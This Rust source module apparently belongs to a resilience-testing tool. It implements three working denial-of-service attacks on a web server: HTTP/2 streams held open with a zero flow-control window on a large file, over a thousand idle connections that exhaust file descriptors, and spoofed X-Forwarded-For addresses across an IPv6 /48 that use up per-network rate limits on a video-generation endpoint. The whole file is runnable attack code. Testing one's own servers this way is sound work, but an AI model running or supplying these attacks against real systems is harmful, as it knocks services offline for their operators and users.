//! Attacks by connections: streams that are not read, connections that are idle, and clients without number.

use std::time::Duration;

use bytes::Bytes;
use http_body_util::Empty;
use hyper::Request;
use hyper::client::conn::{http1, http2};
use hyper_util::rt::{TokioExecutor, TokioIo};
use tokio::io::AsyncReadExt;
use tokio::task::JoinSet;
use tokio::time::{Instant, sleep, sleep_until, timeout_at};

use super::client::{Attacker, Call};
use crate::Result;
use crate::http::next_chunk;

/// Connections with streams that are not read.
const UNREAD_CONNECTIONS: u64 = 20;

/// Streams of each: as many as servers commonly allow.
const STREAMS: u64 = 128;

/// A large file that the server has in memory.
const LARGE_FILE: &str = "/assets/player/hls.min.js";

/// Idle connections: more than the usual limit of open files, 1024.
const IDLE_CONNECTIONS: u64 = 1100;

/// Connections that are opened at a time: more would overflow the accept queue of the server.
const BATCH: u64 = 50;

/// Time before a connection that was closed is opened again.
const REOPEN_DELAY: Duration = Duration::from_millis(100);

/// Networks that a single owner of an IPv6 /48 has at least.
const NETWORKS: u64 = 20_010;

/// Requests of each network: as many as are allowed in a minute.
const REQUESTS_PER_NETWORK: u64 = 10;

/// Connections over which the requests of all networks are sent.
const FLOOD_CONNECTIONS: u64 = 8;

/// Requests files on HTTP/2 streams with a flow control window of zero and holds the streams.
pub(crate) async fn unread_streams(attacker: Attacker) -> Result<()> {
    let mut connections = JoinSet::new();
    for _ in 0..UNREAD_CONNECTIONS {
        let attacker = attacker.clone();
        connections.spawn(async move { drop(hold_streams(&attacker).await) });
    }
    sleep_until(attacker.deadline).await;
    Ok(())
}

async fn hold_streams(attacker: &Attacker) -> Result<()> {
    let stream = TokioIo::new(attacker.connect().await?);
    let mut builder = http2::Builder::new(TokioExecutor::new());
    builder.initial_stream_window_size(0);
    let (sender, connection) = builder.handshake::<_, Empty<Bytes>>(stream).await?;
    let mut tasks = JoinSet::new();
    tasks.spawn(async { drop(connection.await) });
    for _ in 0..STREAMS {
        let (mut sender, attacker) = (sender.clone(), attacker.clone());
        let request = Request::get(attacker.endpoint(LARGE_FILE).to_string()).body(Empty::new())?;
        tasks.spawn(async move {
            attacker.cost.lock().requests += 1;
            let response = timeout_at(attacker.deadline, sender.send_request(request))
                .await
                .ok()
                .and_then(|response| response.ok());
            attacker.count_answer(response.as_ref().map(|response| response.status().as_u16()));
            // The stream is open as long as the response exists.
            sleep_until(attacker.deadline).await;
            drop(response);
        });
    }
    sleep_until(attacker.deadline).await;
    Ok(())
}

/// Opens connections, sends nothing, and opens those again that the server closes.
pub(crate) async fn idle_connections(attacker: Attacker) -> Result<()> {
    let mut connections = JoinSet::new();
    for number in 0..IDLE_CONNECTIONS {
        let attacker = attacker.clone();
        connections.spawn(async move {
            while Instant::now() < attacker.deadline {
                if let Ok(mut stream) = attacker.connect().await {
                    // Returns when the server closes the connection.
                    let _ = stream.read(&mut [0; 1]).await;
                }
                sleep(REOPEN_DELAY).await;
            }
        });
        if number % BATCH == BATCH - 1 {
            sleep(Duration::from_millis(20)).await;
        }
    }
    sleep_until(attacker.deadline).await;
    Ok(())
}

/// Spends the requests that each network may make, through a trusted proxy that names the networks of one IPv6 /48.
pub(crate) async fn address_flood(attacker: Attacker) -> Result<()> {
    let mut connections = JoinSet::new();
    for first in 0..FLOOD_CONNECTIONS {
        let attacker = attacker.clone();
        connections.spawn(async move {
            let networks = (first..NETWORKS).step_by(usize::try_from(FLOOD_CONNECTIONS)?);
            timeout_at(attacker.deadline, flood(&attacker, networks)).await.unwrap_or(Ok(()))
        });
    }
    while let Some(outcome) = connections.join_next().await {
        outcome??;
    }
    // Others are refused as long as the limits last, and what they notice is measured until then.
    sleep_until(attacker.deadline).await;
    Ok(())
}

async fn flood(attacker: &Attacker, networks: impl Iterator<Item = u64>) -> Result<()> {
    let (mut sender, connection) = http1::handshake(TokioIo::new(attacker.connect().await?)).await?;
    let mut driver = JoinSet::new();
    driver.spawn(async { drop(connection.await) });
    let server = attacker.endpoint("/");
    for network in networks {
        let address = format!("2001:db8:1:{network:x}::1");
        for _ in 0..REQUESTS_PER_NETWORK {
            let call = Call::post("/api/generate-workout-video", "{}");
            let request = Call { forwarded_for: Some(&address), ..call }.build(&server)?;
            attacker.count_request(&request);
            sender.ready().await?;
            let mut response = sender.send_request(request).await?;
            attacker.count_answer(Some(response.status().as_u16()));
            while next_chunk(response.body_mut()).await?.is_some() {}
        }
    }
    Ok(())
}
